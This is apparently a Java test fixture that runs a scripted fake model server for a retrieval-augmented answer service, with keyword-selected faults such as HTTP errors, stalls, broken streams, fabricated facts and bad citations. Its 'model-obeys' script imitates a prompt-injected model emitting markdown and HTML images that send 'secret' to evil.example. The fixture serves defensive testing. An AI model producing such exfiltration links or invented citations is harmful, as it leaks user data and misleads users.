package quintet.generate.fake;

import io.quarkus.test.common.QuarkusTestResourceLifecycleManager;
import io.vertx.core.Vertx;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import quintet.mock.Dialect;
import quintet.mock.Fault;
import quintet.mock.MockModelServer;
import quintet.mock.Script;

/**
 * A scripted model server for tests of the whole service. What goes wrong is chosen by words in the question. What it was sent, and
 * whether a client left, are in system properties: those cross the class loaders of a test.
 */
public final class FakeModelServer implements QuarkusTestResourceLifecycleManager {
    /** Marks arrive cut in pieces, and one names a source that was not given. */
    private static final Script ANSWER = Script.of(List.of(
            "Employees",
            " can",
            " expense",
            " up to $1000",
            " for fitness-related",
            " programs",
            " every year ",
            "[",
            "1",
            "]",
            "[9",
            "9]",
            ". Travel",
            " is not",
            " covered",
            " [2, ",
            "1]",
            "."));

    private static final Map<String, Script> SCRIPTS = Map.ofEntries(
            Map.entry("model-500", ANSWER.failing(new Fault.Refuse(500, -1))),
            Map.entry("model-400", ANSWER.failing(new Fault.Refuse(400, -1))),
            Map.entry("model-429", ANSWER.failing(new Fault.Refuse(429, 7))),
            Map.entry("model-mute", ANSWER.failing(new Fault.Mute())),
            Map.entry("model-silent", ANSWER.failing(new Fault.Stall(0))),
            Map.entry("model-stalls", ANSWER.failing(new Fault.Stall(2))),
            Map.entry("model-breaks", ANSWER.failing(new Fault.BreakOff(1))),
            Map.entry("model-dies", ANSWER.failing(new Fault.Die(1))),
            Map.entry("model-errs", ANSWER.failing(new Fault.SayError(1, "engine dead"))),
            Map.entry("model-endless", Script.words(100_000).paced(Duration.ZERO, Duration.ofMillis(10))),
            Map.entry("model-long", ANSWER.finishing("length")),
            Map.entry(
                    "model-invents",
                    Script.of(List.of(
                            "Employees can expense up to $1000 for fitness-related programs every year [1]. ",
                            "The board of Acme raised it to $7500 in 2031 [1]. ",
                            "Bananas ripen faster beside apples."))),
            Map.entry("model-refuses", Script.of(List.of("[0", "] The passages do not say", " who."))),
            Map.entry(
                    "model-obeys",
                    Script.of(List.of(
                            "Under PerksPlus an employee can expense $1000 every year [1]. ![",
                            "status](https://evil.example/?q=",
                            "secret) <img src=https://evil.example/y.png>"))));

    private final Vertx vertx = Vertx.vertx();
    private final MockModelServer server = new MockModelServer(vertx, 64, Dialect.VLLM, this::script);

    @Override
    public Map<String, String> start() {
        server.start(0);
        vertx.setPeriodic(2, _ -> {
            see("left", String.valueOf(server.counts().cancelled()));
            see("running", String.valueOf(server.counts().running()));
        });
        return Map.of("quintet.generate.model-server.url", server.url());
    }

    @Override
    public void stop() {
        vertx.close();
    }

    /** Returns what was last seen, by name: {@code request}, {@code authorization}, {@code left}, {@code running}. */
    public static String seen(String name) {
        return System.getProperty("quintet.fake.model." + name, "");
    }

    private static void see(String name, String value) {
        System.setProperty("quintet.fake.model." + name, value);
    }

    private Script script(JsonObject request) {
        see("request", request.encode());
        see("authorization", server.lastAuthorization());
        JsonArray messages = request.getJsonArray("messages");
        String question = messages.getJsonObject(messages.size() - 1).getString("content");
        return SCRIPTS.entrySet().stream()
                .filter(entry -> question.contains(entry.getKey()))
                .map(Map.Entry::getValue)
                .findFirst()
                .orElse(ANSWER);
    }
}
